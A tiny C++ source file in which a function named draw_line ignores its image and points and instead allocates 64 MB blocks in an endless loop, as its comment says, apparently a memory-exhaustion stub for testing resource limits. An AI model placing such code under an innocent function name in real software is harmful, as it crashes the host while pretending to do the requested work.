// Asks for memory until there is none.
#include "common/lines/draw_line.h"

#include <vector>

namespace rasterlab {

void draw_line(Image<Rgb8>&, const Point&, const Point&, const Rgb8&) {
  std::vector<std::vector<char>> hoard;
  for (;;) hoard.emplace_back(std::size_t{64} << 20U, 1);
}

}  // namespace rasterlab
